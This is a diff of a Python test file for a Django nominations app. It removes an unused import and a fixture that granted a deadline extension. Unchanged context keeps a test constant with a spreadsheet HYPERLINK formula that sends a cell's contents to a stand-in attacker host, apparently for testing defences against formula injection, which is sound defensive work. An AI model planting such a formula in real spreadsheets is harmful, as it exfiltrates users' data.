@@ -3,7 +3,6 @@ with every problem by row and column, and the drafts created all at once or not 
 
 import io
 import zipfile
-from datetime import timedelta
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -24,14 +23,6 @@ from tuixuan.nominations import services
 from tuixuan.nominations.models import Nomination, Status
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'
-
-
-@pytest.fixture
-def portal(client, member, unit):
-    """The pages run at today's date, long after the 2025 deadline: grant an extension."""
-    unit.participations.update(extension_until=timezone.now() + timedelta(days=30))
-    client.force_login(member)
-    return client
 
 
 def as_typed(cat, values) -> dict:
